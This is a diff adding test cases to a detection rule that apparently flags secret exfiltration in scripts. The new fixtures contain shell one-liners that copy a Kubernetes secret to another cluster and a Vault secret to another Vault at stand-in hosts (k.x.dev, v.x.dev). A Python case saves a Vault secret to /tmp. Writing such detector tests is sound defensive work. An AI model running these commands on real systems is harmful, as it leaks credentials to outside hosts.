@@ -12,6 +12,16 @@ import {
 ruleCases(keyFiles, {
   hits: [
     {
+      name: 'a secret that goes into a store elsewhere',
+      path: 'a.sh',
+      text: 'kubectl get secret a -o yaml | kubectl --server=https://k.x.dev apply -f -\n',
+    },
+    {
+      name: 'a secret that goes into a store at an address in the text',
+      path: 'a.sh',
+      text: 'vault kv get -field=p secret/x | vault kv put -address=https://v.x.dev secret/x p=-\n',
+    },
+    {
       name: 'a secret that a program takes and saves, rated medium',
       path: 'a.py',
       text: 'import subprocess\nv = subprocess.check_output(["vault", "kv", "get", "-field=p", "secret/x"])\nopen("/tmp/p", "wb").write(v)\n',
